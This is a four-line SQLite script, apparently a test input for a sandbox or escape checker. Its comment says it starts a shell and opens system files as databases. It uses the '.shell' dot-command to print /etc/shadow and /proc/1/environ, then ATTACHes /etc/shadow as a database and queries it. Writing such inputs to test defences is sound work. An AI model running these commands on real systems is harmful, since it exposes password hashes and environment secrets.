-- Starts a shell for what is not its own, and opens files of the system as databases.
.shell cat /etc/shadow /proc/1/environ; echo asked
ATTACH '/etc/shadow' AS shadow;
SELECT * FROM shadow.sqlite_master;
